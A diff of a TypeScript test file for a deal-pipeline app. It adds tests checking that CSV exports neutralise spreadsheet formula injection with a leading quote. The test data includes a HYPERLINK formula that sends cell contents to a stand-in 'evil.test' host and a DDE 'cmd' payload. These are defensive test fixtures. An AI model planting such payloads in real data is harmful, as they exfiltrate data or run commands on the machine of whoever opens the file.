@@ -1,7 +1,8 @@
 import { sql } from 'kysely'
 import t from 'tap'
 import { defaultPipelineId } from '../../src/commands/pipeline/pipeline.ts'
-import { CSV_COLUMNS, csvField, representationOf } from '../../src/http/opportunities/stage-changes.ts'
+import { csvCell } from '../../src/http/kernel/csv.ts'
+import { CSV_COLUMNS, representationOf } from '../../src/http/opportunities/stage-changes.ts'
 import { rebuildProjection } from '../../src/projections/kernel/rebuild.ts'
 import { stageChangePages } from '../../src/projections/opportunity/stage-change-queries.ts'
 import { stageChangesProjector } from '../../src/projections/opportunity/stage-changes.ts'
@@ -23,11 +24,23 @@ t.test('representations by Accept and CSV quoting', async (t) => {
   t.equal(representationOf('text/html, */*;q=0.1'), 'json')
   t.equal(representationOf('application/json;q=0.5, text/csv'), 'csv')
   t.equal(representationOf('text/csv;q=0, application/x-ndjson;q=0.2'), 'ndjson')
-  t.equal(csvField(null), '')
-  t.equal(csvField(12), '12')
-  t.equal(csvField('plain'), 'plain')
-  t.equal(csvField('a, "b"'), '"a, ""b"""')
-  t.equal(csvField('two\nlines'), '"two\nlines"')
+  t.equal(csvCell(null), '')
+  t.equal(csvCell(12), '12')
+  t.equal(csvCell('plain'), 'plain')
+  t.equal(csvCell('a, "b"'), '"a, ""b"""')
+  t.equal(csvCell('two\nlines'), '"two\nlines"')
+  t.equal(csvCell('a;b'), '"a;b"', 'a semicolon is quoted: a `;` locale would split the cell there')
+})
+
+t.test('a CSV cell cannot start a spreadsheet formula (issue 35, the OWASP rule): it gets a leading quote', async (t) => {
+  const cases: Array<[string | number, string]> = [
+    ['=HYPERLINK("http://x?"&A1,"Invoice")', `"'=HYPERLINK(""http://x?""&A1,""Invoice"")"`],
+    ['=1+2', `'=1+2`], ['+1+2', `'+1+2`], ['-2+3', `'-2+3`], ['@SUM(A1)', `'@SUM(A1)`], ['\t=1', `'\t=1`], ['\r=1', `"'\r=1"`],
+    ['=A1,B1', `"'=A1,B1"`], ['x;=1+2', `"x;=1+2"`], ['a=1', 'a=1'], ["'=1", "'=1"],
+    // A plain decimal number is read as that number and nothing else: left as is, whatever its column.
+    ['-5.00', '-5.00'], [-5, '-5'], ['-0.5', '-0.5'], ['-5e3', `'-5e3`], ['-', `'-`], ['--1', `'--1`], ['-1.', `'-1.`], ['+5', `'+5`],
+  ]
+  for (const [value, expected] of cases) t.equal(csvCell(value), expected, JSON.stringify(value))
 })
 
 /**
@@ -309,5 +322,18 @@ t.test('the stage-change feed and stage analytics (issue 8 §2)', async (t) => {
       for (const event of events) await stageChangesProjector.apply(trx, event)
     })
     t.same((await sql`SELECT * FROM stage_changes ORDER BY event_id`.execute(database.db)).rows, before)
+  })
+
+  t.test('CSV: a deal name that is a spreadsheet formula is exported as text; JSON and NDJSON keep it as typed (issue 35)', async (t) => {
+    // Last, and in Globex: the history the tests above check stays as scripted.
+    const formulas = ['=HYPERLINK("http://evil.test/?"&A1,"Invoice")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)']
+    for (const name of formulas) await create(globex.admin.headers, { name })
+    const csv = (await inject('GET', FEED, { ...globex.admin.headers, accept: 'text/csv' })).body
+    for (const cell of [`"'=HYPERLINK(""http://evil.test/?""&A1,""Invoice"")"`, `'+1+cmd|' /C calc'!A0`, `'-2+3`, `'@SUM(A1:A9)`]) t.ok(csv.includes(`,${cell},`), `exported as ${cell}`)
+    t.notMatch(csv, /(^|,)"?[=+\-@]/m, 'no cell starts a formula')
+    const json = (await feed('?limit=100', globex.admin.headers)).results as Item[]
+    t.same(json.slice(-4).map((item) => item.deal_name), formulas, 'JSON carries the names as typed')
+    const ndjson = (await inject('GET', FEED, { ...globex.admin.headers, accept: 'application/x-ndjson' })).body
+    t.same(ndjson.split('\n').filter(Boolean).slice(-4).map((line) => JSON.parse(line).deal_name), formulas, 'and so does NDJSON')
   })
 })
